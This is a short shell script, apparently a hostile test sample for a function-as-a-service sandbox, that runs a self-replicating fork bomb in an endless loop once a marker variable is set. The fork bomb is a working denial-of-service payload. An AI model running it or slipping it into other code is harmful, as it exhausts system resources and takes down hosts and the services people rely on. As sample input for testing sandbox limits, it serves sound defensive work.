# The famous one, without its own limit.
: "${FAAS_HOSTILE_MARK:?}"
bomb() { bomb | bomb & }
bomb 2>/dev/null
while :; do bomb 2>/dev/null; done
